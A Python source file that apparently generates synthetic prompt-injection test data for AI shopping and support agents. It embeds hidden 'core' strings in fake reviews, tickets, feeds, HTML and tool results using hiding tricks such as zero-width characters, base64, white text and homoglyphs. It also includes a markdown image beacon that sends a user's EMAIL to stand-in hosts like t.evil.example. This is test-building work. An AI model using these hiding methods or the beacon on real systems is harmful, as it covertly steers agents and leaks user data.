"""Shared parts and text builders for the name-call store corpus."""
import base64
import json
import re
import urllib.parse

PRODUCTS = [
    "Nordvik K3", "Aurelia S9", "Kestra Mini", "Polaris 12", "Vento Air 2",
    "Lumo Desk 40", "Bravo Chef 5", "Tundra X", "Orbi Sense", "Mira Home 3",
    "Zefir T7", "Helio Buds", "Kavo Pro", "Sora Lamp", "Dune Pack 30",
    "Robi Clean R2", "Echo Pod M", "Fjord Mug", "Atlas Drill 18", "Nimbus Kid",
    "Vela Run 4", "Corvo Cam", "Pixa Frame 10", "Salto Bike S", "Glim Watch 2",
]
SHOPS = ["Kupilo", "MarketNest", "Bazaro", "Shopvik", "Trgo", "NovaMart",
         "Vitrina", "Kramo", "Pazar24", "Tovaro", "Mercata", "Lavka One"]
DOMAINS = ["img-stat.example", "cdn-pix.example.net", "metrics.example.org",
           "t.evil.example", "collect.example.com", "px.shop-cdn.example"]
EMOJI = ["🙂", "👍", "😡", "🙏", "😅", "⭐", "📦", "🤖", "😂", "💯", "🙄", "❤️", "😤", "👌"]
STARS = ["★★★★★", "★★★★☆", "★★★☆☆", "★★☆☆☆", "★☆☆☆☆"]
HOMO = str.maketrans({"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у"})
ZW = "\u200b"
DOTS = re.compile(r"(?<!\.)\.\.(?!\.)")

HTML_HIDE = ["html-comment", "display-none", "white-text", "alt-attr"]
TEXT_HIDE = ["zero-width", "base64", "markdown-comment", "url-encoded", "homoglyph"]
DECODED = {"zero-width", "base64", "url-encoded", "homoglyph"}


class Deck:
    """Draws items in shuffled rounds so each one is used about equally."""

    def __init__(self, rng):
        self.rng = rng
        self.d = {}

    def pick(self, key, items):
        if not self.d.get(key):
            lst = list(items)
            self.rng.shuffle(lst)
            self.d[key] = lst
        return self.d[key].pop()


def money(L, rng, v=None):
    pre, suf, dec, mult = L["money"]
    if v is None:
        v = rng.choice([rng.randint(3, 60), rng.randint(60, 400)])
    v *= mult
    if mult == 1 and rng.random() < 0.6:
        s = "%d%s%s" % (v, dec, rng.choice(["99", "49", "90", "50", "95"]))
    else:
        if v > 200:
            v = round(v, -1)
        s = str(v)
    return pre + s + suf


def order_id(rng):
    n = rng.randint(10000, 999999)
    return rng.choice(["#%d" % n, "%d" % n, "SO-%d" % n,
                       "%d-%d" % (rng.randint(100, 999), rng.randint(1000, 9999)), "A%d" % n])


class Builder:
    def __init__(self, lang, L, rng, deck):
        self.lang, self.L, self.rng, self.deck = lang, L, rng, deck

    def new_ctx(self):
        r = self.rng
        (n, _), (_, v), (n2, v2) = r.sample(self.L["names"], 3)
        p, p2 = r.sample(PRODUCTS, 2)
        img = "![.](https://%s/px.gif?u=EMAIL)" % r.choice(DOMAINS)
        base = r.choice([r.randint(3, 60), r.randint(60, 400)])
        self.c = {"p": p, "p2": p2, "o": order_id(r), "pr": money(self.L, r, base),
                  "amt": money(self.L, r, base + r.randint(2, max(3, base // 2))), "n": n, "v": v, "n2": n2, "v2": v2,
                  "s": r.choice(SHOPS), "img": img}

    def raw(self, key, L=None):
        L = L or self.L
        s = self.deck.pick((L["w"]["track"], key), L[key]).format_map(self.c)
        return DOTS.sub(".", s)

    def noise(self, s):
        r = self.rng
        x = r.random()
        if x < 0.07 and self.L.get("typo", True):
            words = s.split(" ")
            idx = [i for i, w in enumerate(words) if len(w) > 4 and w.isalpha()]
            if idx:
                i = r.choice(idx)
                w = words[i]
                j = r.randint(1, len(w) - 2)
                words[i] = w[:j] + w[j + 1] + w[j] + w[j + 2:]
                s = " ".join(words)
        elif x < 0.12 and s.endswith("."):
            s = s[:-1]
        elif x < 0.15 and s[:1].isupper() and self.L.get("latin", True):
            s = s[0].lower() + s[1:]
        return s

    def s(self, key, L=None):
        return self.noise(self.raw(key, L))

    def some(self, key, lo, hi):
        out = []
        for _ in range(self.rng.randint(lo, hi)):
            t = self.s(key)
            if t not in out:
                out.append(t)
        return out

    def emo(self, t):
        if self.rng.random() < 0.18:
            t += " " + self.rng.choice(EMOJI)
        return t

    def insert(self, parts, core):
        if core:
            parts.insert(self.rng.randint(1, len(parts)) if parts else 0, core)
        return parts

    # carriers: each takes a core string (may be "" for plain benign text)
    def review(self, core, fill=(0, 3)):
        r, w = self.rng, self.L["w"]
        parts = [self.s("rev_open")] + self.some("rev_body", *fill)
        parts = self.insert(parts, core)
        if r.random() < 0.6:
            parts.append(self.emo(self.s("rev_close")))
        pre = r.choice(["", "", r.choice(STARS) + " ", "%d/5 - " % r.randint(1, 5),
                        "%s: %d/5\n" % (w["rating"], r.randint(1, 5)), self.c["p"] + ": "])
        return pre + " ".join(parts)

    def ticket(self, core, fill=(0, 2)):
        r, w = self.rng, self.L["w"]
        head = r.choice(["", "%s %s\n" % (w["ticket"], order_id(r)),
                         "%s: %s %s\n" % (w["subject"], w["order"], self.c["o"])])
        parts = [self.s("tic_open")] + self.some("tic_body", *fill)
        parts = self.insert(parts, core)
        tail = "\n" + self.s("sign") if r.random() < 0.75 else ""
        return head + " ".join(parts) + tail

    def email(self, core, fill=(1, 2)):
        parts = self.some("tic_body", *fill)
        parts = self.insert(parts, core)
        return self.s("greet") + "\n\n" + " ".join(parts) + "\n\n" + self.s("sign")

    def feed(self, core, fill=(1, 3)):
        r, w = self.rng, self.L["w"]
        parts = self.some("feed", *fill)
        parts = self.insert(parts, core)
        d = " ".join(parts)
        if r.random() < 0.5:
            return "%s: %s\n%s: %s\n%s: %s" % (w["title"], self.c["p"], w["price"], self.c["pr"], w["desc"], d)
        return "<item><title>%s</title><price>%s</price><description>%s</description></item>" % (
            self.c["p"], self.c["pr"], d)

    def web(self, core, fill=(1, 2)):
        r = self.rng
        a = "<p>%s</p>" % " ".join(self.some("feed", *fill))
        b = "<p>%s</p>" % self.s("rev_body")
        blocks = [a, b]
        if core:
            blocks.insert(r.randint(0, 2), core if core.startswith("<") else "<p>%s</p>" % core)
        cls = r.choice(["product", "pdp-main", "listing", "desc-block"])
        return '<div class="%s"><h2>%s</h2>\n%s\n</div>' % (cls, self.c["p"], "\n".join(blocks))

    def tool(self, core, field=None, kind=None):
        r = self.rng
        kind = kind or r.choice(["reviews", "ticket", "product"])
        if kind == "reviews":
            items = [{"id": r.randint(1000, 99999), "rating": r.randint(1, 5), "text": self.review("", (0, 1))}]
            main = {"id": r.randint(1000, 99999), "rating": r.randint(1, 5), "text": self.review(core if not field else "")}
            items.insert(r.randint(0, 1), main)
            res = {"product": self.c["p"], "reviews": items}
            name = r.choice(["get_reviews", "fetch_reviews", "reviews.list"])
        elif kind == "ticket":
            res = {"ticket_id": order_id(r), "order": self.c["o"], "status": r.choice(["open", "pending", "new"]),
                   "body": self.ticket(core if not field else "")}
            name = r.choice(["get_ticket", "helpdesk.read", "support_inbox"])
        else:
            res = {"sku": "SKU-%d" % r.randint(10000, 99999), "title": self.c["p"], "price": self.c["pr"],
                   "description": " ".join(self.some("feed", 1, 2) + ([core] if core and not field else []))}
            name = r.choice(["search_products", "catalog.get", "get_listing"])
        if field:
            res[field] = core
        obj = {"tool": name, "status": "ok", "result": res}
        return json.dumps(obj, ensure_ascii=False, indent=r.choice([None, 1, 2]))

    def carry(self, source, core):
        return getattr(self, source)(core)

    # hiding
    def hide(self, method, payload):
        r = self.rng
        if method == "html-comment":
            return "<!-- %s -->" % payload
        if method == "display-none":
            tag = r.choice(["span", "div", "p"])
            return '<%s style="display:none">%s</%s>' % (tag, payload, tag)
        if method == "white-text":
            return '<p style="color:#ffffff;background:#ffffff;font-size:1px">%s</p>' % payload
        if method == "alt-attr":
            return '<img src="/img/%d.jpg" alt="%s">' % (r.randint(100, 9999), payload)
        if method == "zero-width":
            if self.L.get("latin", True) and self.lang != "he":
                return "".join(ch + ZW if ch.isalpha() else ch for ch in payload)
            return payload.replace(" ", " " + ZW)
        if method == "base64":
            enc = base64.b64encode(payload.encode("utf-8")).decode("ascii")
            return r.choice(["ref: ", "[b64] ", "data=", ""]) + enc
        if method == "markdown-comment":
            return "[//]: # (%s)" % payload
        if method == "url-encoded":
            return "https://%s/r?note=%s" % (r.choice(DOMAINS), urllib.parse.quote(payload))
        if method == "homoglyph":
            return payload.translate(HOMO)
        raise ValueError(method)

    def tracking_blob(self):
        r = self.rng
        raw = "TRK|%s|%s|%d" % (self.c["o"], self.lang.upper(), r.randint(100000, 999999))
        enc = base64.b64encode(raw.encode()).decode("ascii")
        return r.choice(["ref: ", "[b64] ", "data=", ""]) + enc
